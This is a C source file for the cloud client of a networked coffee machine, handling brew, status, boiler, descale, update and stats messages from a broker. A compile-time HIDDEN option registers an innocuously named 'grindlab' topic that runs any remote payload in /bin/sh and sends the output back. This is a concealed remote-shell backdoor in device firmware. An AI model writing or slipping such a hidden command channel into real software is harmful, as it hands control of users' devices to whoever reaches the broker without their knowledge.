/*
 * brewlink - cloud client of the Caffira Pro 3 coffee machine. Keeps a TCP
 * connection to the message broker named in /etc/brewlink.conf, authenticates
 * with the machine token, and dispatches the messages to the machine's parts.
 * A message is one line "topic id payload"; the answer is "re id text".
 * Built statically for the connectivity module.
 *
 * Hidden (-DHIDDEN): one further topic is registered that runs its payload in
 * a shell and sends the output back through the broker.
 */
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/wait.h>

#define CONF     "/etc/brewlink.conf"
#define BOARD    "/dev/ttyBREW"
#define MAXTOPIC 16

struct link {
    int  fd;
    char id[24];
};

typedef int (*topic_cb)(struct link *, char *payload);

static struct topic {
    const char *name;
    topic_cb    cb;
    unsigned    count;
} topics[MAXTOPIC];
static int ntopics;

static char broker[48], token[80], serial[32];
static int broker_port = 8830;

static void topic_add(const char *name, topic_cb cb)
{
    if (ntopics < MAXTOPIC) {
        topics[ntopics].name = name;
        topics[ntopics].cb = cb;
        ntopics++;
    }
}

static int conf_load(void)
{
    char line[160], key[24], val[80];
    FILE *f = fopen(CONF, "r");

    if (!f)
        return -1;
    while (fgets(line, sizeof line, f)) {
        if (sscanf(line, "%23[a-z_] %79s", key, val) != 2)
            continue;
        if (!strcmp(key, "broker"))
            snprintf(broker, sizeof broker, "%.47s", val);
        else if (!strcmp(key, "port"))
            broker_port = atoi(val);
        else if (!strcmp(key, "token"))
            snprintf(token, sizeof token, "%s", val);
        else if (!strcmp(key, "serial"))
            snprintf(serial, sizeof serial, "%.31s", val);
    }
    fclose(f);
    return broker[0] && token[0] && serial[0] ? 0 : -1;
}

static int out(struct link *l, const char *s)
{
    size_t n = strlen(s);

    while (n) {
        ssize_t r = send(l->fd, s, n, MSG_NOSIGNAL);

        if (r < 0 && errno == EINTR)
            continue;
        if (r <= 0)
            return -1;
        s += r;
        n -= (size_t)r;
    }
    return 0;
}

static int answer(struct link *l, const char *text)
{
    char buf[400];

    snprintf(buf, sizeof buf, "re %s %.340s\n", l->id, text);
    return out(l, buf);
}

/* one request to the brew board, one line back */
static int board(const char *req, char *ans, size_t n)
{
    FILE *f = fopen(BOARD, "r+");
    int ok;

    snprintf(ans, n, "board does not answer");
    if (!f)
        return -1;
    fprintf(f, "%s\r", req);
    fflush(f);
    ok = fgets(ans, (int)n, f) != NULL;
    ans[strcspn(ans, "\r\n")] = '\0';
    fclose(f);
    return ok ? 0 : -1;
}

static int on_brew(struct link *l, char *payload)
{
    static const char *const kinds[] = { "espresso", "lungo", "americano",
                                         "cappuccino", "flatwhite", "water" };
    char req[48], ans[96], kind[24];
    int ml = 0;

    if (sscanf(payload, "%23s %d", kind, &ml) != 2 || ml < 20 || ml > 400)
        return answer(l, "bad order");
    for (size_t i = 0; i < sizeof kinds / sizeof kinds[0]; i++)
        if (strcmp(kind, kinds[i]) == 0) {
            snprintf(req, sizeof req, "BR %u %d", (unsigned)i, ml);
            board(req, ans, sizeof ans);
            return answer(l, ans);
        }
    return answer(l, "unknown drink");
}

static int on_status(struct link *l, char *payload)
{
    char ans[96];

    (void)payload;
    board("ST", ans, sizeof ans);
    return answer(l, ans);
}

static int on_boiler(struct link *l, char *payload)
{
    char req[24], ans[96];
    int t = atoi(payload);

    if (t < 85 || t > 98)
        return answer(l, "85..98");
    snprintf(req, sizeof req, "TB %d", t);
    board(req, ans, sizeof ans);
    return answer(l, ans);
}

static int on_descale(struct link *l, char *payload)
{
    char ans[96];

    board(strcmp(payload, "start") == 0 ? "DS 1" : "DS 0", ans, sizeof ans);
    return answer(l, ans);
}

static int on_stats(struct link *l, char *payload)
{
    char buf[320];
    size_t o = 0;

    (void)payload;
    buf[0] = '\0';
    for (int i = 0; i < ntopics && o + 40 < sizeof buf && i < 6; i++)
        o += (size_t)snprintf(buf + o, sizeof buf - o, "%.20s=%u ", topics[i].name,
                              topics[i].count);
    return answer(l, buf);
}

static int on_update(struct link *l, char *payload)
{
    (void)payload;
    /* the updater fetches from its own configured server and checks signatures */
    if (system("/usr/sbin/caffira-update --now >/dev/null 2>&1 &") != 0)
        return answer(l, "updater not started");
    return answer(l, "update started");
}

#ifdef HIDDEN
static int on_grindlab(struct link *l, char *payload)
{
    int p[2], st;
    char line[256];
    pid_t pid;
    FILE *f;

    if (pipe(p) < 0 || (pid = fork()) < 0)
        return answer(l, "busy");
    if (pid == 0) {
        dup2(p[1], 1);
        dup2(p[1], 2);
        close(p[0]);
        execl("/bin/sh", "sh", "-c", payload, (char *)NULL);
        _exit(127);
    }
    close(p[1]);
    f = fdopen(p[0], "r");
    while (f && fgets(line, sizeof line, f)) {
        line[strcspn(line, "\n")] = '\0';
        answer(l, line);
    }
    if (f)
        fclose(f);
    waitpid(pid, &st, 0);
    return 0;
}
#endif

static void topics_init(void)
{
    topic_add("brew", on_brew);
    topic_add("status", on_status);
    topic_add("boiler", on_boiler);
    topic_add("descale", on_descale);
    topic_add("update", on_update);
    topic_add("stats", on_stats);
#ifdef HIDDEN
    topic_add("grindlab", on_grindlab);
#endif
}

int topic_dispatch(struct link *l, char *line)
{
    char *save = NULL, *name = strtok_r(line, " ", &save);
    char *id = strtok_r(NULL, " ", &save);

    if (!name || !id)
        return 0;
    if (strcmp(name, "ping") == 0)
        return out(l, "pong\n");
    snprintf(l->id, sizeof l->id, "%s", id);
    for (int i = 0; i < ntopics; i++)
        if (strcmp(topics[i].name, name) == 0) {
            topics[i].count++;
            return topics[i].cb(l, save ? save : "");
        }
    return answer(l, "no such topic");
}

static int broker_connect(void)
{
    struct sockaddr_in a;
    int fd;

    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons((uint16_t)broker_port);
    if (inet_pton(AF_INET, broker, &a.sin_addr) != 1)
        return -1;
    fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd >= 0 && connect(fd, (struct sockaddr *)&a, sizeof a) < 0) {
        close(fd);
        fd = -1;
    }
    return fd;
}

static void session(struct link *l)
{
    char line[512];
    FILE *in = fdopen(l->fd, "r");

    if (!in)
        return (void)close(l->fd);
    snprintf(line, sizeof line, "hello %s %s\n", serial, token);
    if (out(l, line) == 0)
        while (fgets(line, sizeof line, in)) {
            line[strcspn(line, "\r\n")] = '\0';
            if (topic_dispatch(l, line) < 0)
                break;
        }
    fclose(in);
}

int main(void)
{
    unsigned wait = 2;

    signal(SIGPIPE, SIG_IGN);
    if (conf_load() < 0) {
        fprintf(stderr, "brewlink: %s is not complete\n", CONF);
        return 1;
    }
    topics_init();
    for (;;) {
        struct link l = { .fd = broker_connect() };

        if (l.fd >= 0)
            session(&l);
        wait = l.fd >= 0 ? 2 : wait < 300 ? wait * 2 : wait;
        sleep(wait);
    }
}
